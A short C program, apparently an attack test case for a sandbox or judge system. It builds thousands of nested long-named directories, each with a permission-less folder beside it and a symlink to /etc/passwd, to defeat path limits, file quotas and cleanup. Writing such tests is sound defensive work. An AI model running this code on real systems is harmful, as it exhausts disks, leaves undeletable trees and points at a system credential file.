// compiler, interpreter: ends "wrote more than 8388608 bytes to files"
// Nested deeper than paths go, each with a folder that nobody may enter: who removes them?
#include "attack.h"

int main(void)
{
    for (int level = 0; level < 5000; ++level) {
        mkdir("closed", 0);
        symlink("/etc/passwd", "1");
        if (mkdir("folder with a long name, so that few of them make a path that nobody can open", 0700)) break;
        if (chdir("folder with a long name, so that few of them make a path that nobody can open")) break;
    }
    sleep(10);
    return end_of_tries();
}
